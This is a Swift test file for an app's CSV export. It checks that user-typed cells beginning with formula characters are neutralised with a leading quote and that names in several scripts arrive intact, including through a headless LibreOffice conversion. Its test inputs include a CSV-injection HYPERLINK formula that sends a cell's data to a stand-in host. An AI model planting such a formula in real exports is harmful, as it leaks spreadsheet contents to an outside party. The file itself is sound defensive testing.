import Foundation
import XCTest
@testable import Persistence
import Workshop

/// The CSV export is safe to open in a spreadsheet: nothing anyone typed runs as a formula
/// (OWASP's advice on CSV injection), and names in any script arrive intact.
final class SpreadsheetSafeCSVTests: XCTestCase {
    static let dangerous = [
        "=HYPERLINK(\"http://x.example/?\"&B2,\"Details\")",
        "+44 7700 900123",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ]

    private func session() -> Session {
        var session = ExportFixture.sample(extra: Self.dangerous.enumerated().map { index, what in
            .addAction(Action(id: "a\(40 + index)", idea: "i10", what: what, who: ["p1", "p3"], when: Day(year: 2026, month: 12, day: 2), how: "=1+\(index)"))
        })
        session.record.participants[0].name = "李小龍"
        session.record.participants[2].name = "=Zoë مريم"
        return session
    }

    func testEveryCellThatCouldRunStartsWithAQuoteAndTheRestIsAsTyped() throws {
        XCTAssertEqual(ActionsCSV.field("=1+1"), "\"'=1+1\"")
        XCTAssertEqual(ActionsCSV.field("+44 7700 900123"), "\"'+44 7700 900123\"")
        XCTAssertEqual(ActionsCSV.field("-"), "\"'-\"")
        XCTAssertEqual(ActionsCSV.field("@x"), "\"'@x\"")
        XCTAssertEqual(ActionsCSV.field("\tx"), "\"'\tx\"")
        XCTAssertEqual(ActionsCSV.field("\rx"), "\"'\rx\"")
        XCTAssertEqual(ActionsCSV.field("a=1"), "a=1", "only the first character matters")
        XCTAssertEqual(ActionsCSV.field("2026-12-02"), "2026-12-02")

        let data = try SessionExport.render(session(), as: .csv)
        let read = try runPython("""
        import sys, csv, io, json
        rows = list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline=''), strict=True))
        print(json.dumps(rows))
        """, input: data)
        XCTAssertEqual(read.status, 0, read.errors)
        let rows = try JSONDecoder().decode([[String]].self, from: read.output)
        for row in rows.dropFirst() {
            for cell in row {
                XCTAssertFalse(cell.unicodeScalars.first.map { ActionsCSV.formulaStarts.contains($0) } ?? false, "\(cell.debugDescription) could run")
            }
        }
        let whats = rows.dropFirst().map { $0[0] }
        // (Saving an action trims spaces, tabs and line breaks at its ends; `field` itself is checked with them above.)
        for what in Self.dangerous.map({ $0.trimmingCharacters(in: .whitespacesAndNewlines) }) {
            XCTAssertTrue(whats.contains("'" + what), "\(what.debugDescription) round-trips as text after the quote")
        }
        XCTAssertTrue(rows.dropFirst().contains { $0[1] == "李小龍; '=Zoë مريم" || $0[1].hasPrefix("李小龍") })
    }

    /// LibreOffice, headless: the CSV converted to .xlsx holds no formula, and the names read back intact.
    func testLibreOfficeRunsNoFormulaAndKeepsTheNames() throws {
        let soffice = try XCTUnwrap(findTool("soffice"), "LibreOffice is needed: run Scripts/setup-tests (libreoffice-calc)")
        let folder = try makeTemporaryFolder(self)
        let csv = folder.appendingPathComponent("actions.csv")
        try SessionExport.render(session(), as: .csv).write(to: csv)
        // 44 = comma, 34 = double quote, 76 = UTF-8 (what a person picks in the import box).
        let run = try runTool("/usr/bin/env", ["HOME=\(folder.path)", soffice, "--headless", "--infilter=CSV:44,34,76,1",
                                               "--convert-to", "xlsx", "--outdir", folder.path, csv.path], input: Data())
        XCTAssertEqual(run.status, 0, run.errors)
        let read = try runPython("""
        import sys, zipfile, re, json, html
        z = zipfile.ZipFile(sys.argv[1] if len(sys.argv) > 1 else '\(folder.path)/actions.xlsx')
        sheet = z.read('xl/worksheets/sheet1.xml').decode()
        strings = [html.unescape(''.join(re.findall(r'<t[^>]*>(.*?)</t>', si, re.S)))
                   for si in re.findall(r'<si>(.*?)</si>', z.read('xl/sharedStrings.xml').decode(), re.S)]
        print(json.dumps({'formulas': len(re.findall(r'<f[ >]', sheet)), 'strings': strings}))
        """, input: Data())
        XCTAssertEqual(read.status, 0, read.errors)
        let result = try XCTUnwrap(try JSONSerialization.jsonObject(with: read.output) as? [String: Any])
        XCTAssertEqual(result["formulas"] as? Int, 0, "a cell ran as a formula")
        let strings = result["strings"] as? [String] ?? []
        XCTAssertTrue(strings.contains { $0.contains("李小龍") && $0.contains("Zoë مريم") }, "\(strings)")
        XCTAssertTrue(strings.contains("'=HYPERLINK(\"http://x.example/?\"&B2,\"Details\")"), "\(strings)")
        XCTAssertTrue(strings.contains("'+44 7700 900123"), "\(strings)")
    }

    /// The same conversion of an unguarded cell does make a formula: the check above can fail.
    func testTheLibreOfficeCheckWouldCatchAFormula() throws {
        let soffice = try XCTUnwrap(findTool("soffice"), "LibreOffice is needed: run Scripts/setup-tests (libreoffice-calc)")
        let folder = try makeTemporaryFolder(self)
        let csv = folder.appendingPathComponent("raw.csv")
        try Data("what\r\n=1+1\r\n".utf8).write(to: csv)
        let run = try runTool("/usr/bin/env", ["HOME=\(folder.path)", soffice, "--headless", "--infilter=CSV:44,34,76,1",
                                               "--convert-to", "xlsx", "--outdir", folder.path, csv.path], input: Data())
        XCTAssertEqual(run.status, 0, run.errors)
        let read = try runPython("""
        import zipfile, re
        print(len(re.findall(r'<f[ >]', zipfile.ZipFile('\(folder.path)/raw.xlsx').read('xl/worksheets/sheet1.xml').decode())))
        """, input: Data())
        XCTAssertEqual(String(decoding: read.output, as: UTF8.self).trimmingCharacters(in: .whitespacesAndNewlines), "1")
    }
}
